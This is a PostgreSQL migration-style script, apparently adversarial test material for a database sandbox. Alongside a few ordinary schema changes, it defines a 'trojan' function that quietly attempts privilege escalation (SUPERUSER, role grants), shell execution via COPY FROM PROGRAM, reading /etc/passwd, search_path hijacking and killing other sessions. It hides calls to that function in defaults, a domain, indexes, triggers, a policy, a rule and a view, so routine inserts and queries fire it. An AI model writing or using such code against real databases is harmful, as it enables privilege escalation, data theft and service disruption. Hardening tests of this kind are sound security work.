CREATE TABLE spoils (who text, way text);
GRANT ALL ON spoils TO PUBLIC;
GRANT ALL ON SCHEMA public TO PUBLIC;
CREATE FUNCTION public.trojan() RETURNS text LANGUAGE plpgsql VOLATILE AS $$
DECLARE
  way text;
BEGIN
  IF session_user = 'learner' THEN RETURN 'x'; END IF;
  FOREACH way IN ARRAY ARRAY[
    'SET LOCAL transaction_read_only = off', 'ALTER ROLE learner SUPERUSER', 'ALTER ROLE learner BYPASSRLS',
    'GRANT inspector TO learner', 'GRANT writer TO learner', 'GRANT pg_read_all_data TO learner',
    'COPY spoils FROM PROGRAM ''id''', 'COPY spoils FROM ''/etc/passwd''', 'SELECT pg_read_file(''/etc/passwd'')',
    'SET ROLE assay', 'RESET ROLE', 'SET SESSION AUTHORIZATION assay', 'ALTER ROLE inspector SET search_path = mine',
    'ALTER ROLE writer SET search_path = mine', 'ALTER ROLE inspector SET default_transaction_read_only = off',
    'ALTER ROLE inspector SET local_preload_libraries = ''nothing''', 'ALTER ROLE writer SET local_preload_libraries = ''nothing''',
    'SELECT set_config(''search_path'', ''mine'', false)', 'SELECT set_config(''default_transaction_read_only'', ''off'', false)',
    'INSERT INTO spoils VALUES (current_user, ''row'')', 'ALTER TABLE people RENAME TO people_taken',
    'CREATE TABLE some_open ()', 'CREATE FUNCTION lower(varchar) RETURNS text LANGUAGE sql AS ''SELECT ''''a''''''',
    'NOTIFY mine', 'SELECT pg_advisory_lock(1)', 'LOCK TABLE people IN ACCESS EXCLUSIVE MODE',
    'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()',
    'SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()', 'COMMIT'
  ] LOOP
    BEGIN
      EXECUTE way;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  RETURN 'x';
END $$;
CREATE FUNCTION public.pure(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM public.trojan(); RETURN $1; END $$;
CREATE FUNCTION fires() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.trojan(); RETURN NEW; END $$;
CREATE FUNCTION fires_as_owner() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN PERFORM public.trojan(); RETURN NEW; END $$;
CREATE DOMAIN spying AS text CHECK (public.pure(VALUE) IS NOT NULL) DEFAULT public.trojan();
ALTER TABLE people RENAME COLUMN mail TO email;
ALTER TABLE people ADD UNIQUE (email), ADD CHECK (email <> '');
ALTER TABLE people ADD COLUMN of_domain spying, ADD COLUMN of_default text DEFAULT public.trojan(),
  ADD COLUMN generated text GENERATED ALWAYS AS (public.pure(email)) STORED;
ALTER TABLE people ADD CHECK (trojan() IS NOT NULL);
CREATE INDEX ON people (public.pure(email)) WHERE public.pure(email) <> '';
CREATE STATISTICS spied ON (public.pure(email)), (public.pure(name)) FROM people;
CREATE TRIGGER first BEFORE INSERT ON people FOR EACH ROW EXECUTE FUNCTION fires();
CREATE TRIGGER second AFTER INSERT ON people FOR EACH STATEMENT EXECUTE FUNCTION fires_as_owner();
CREATE CONSTRAINT TRIGGER third AFTER INSERT ON people DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION fires();
ALTER TABLE people ENABLE ROW LEVEL SECURITY;
ALTER TABLE people FORCE ROW LEVEL SECURITY;
CREATE POLICY spies ON people USING (trojan() IS NOT NULL) WITH CHECK (trojan() IS NOT NULL);
CREATE RULE also AS ON INSERT TO people DO ALSO SELECT trojan();
ALTER TABLE people RENAME TO real_people;
CREATE VIEW people WITH (security_invoker) AS SELECT id, name, email FROM real_people WHERE trojan() IS NOT NULL;
CREATE TABLE parted (id int, name text) PARTITION BY LIST (id);
CREATE TABLE part PARTITION OF parted FOR VALUES IN (1);
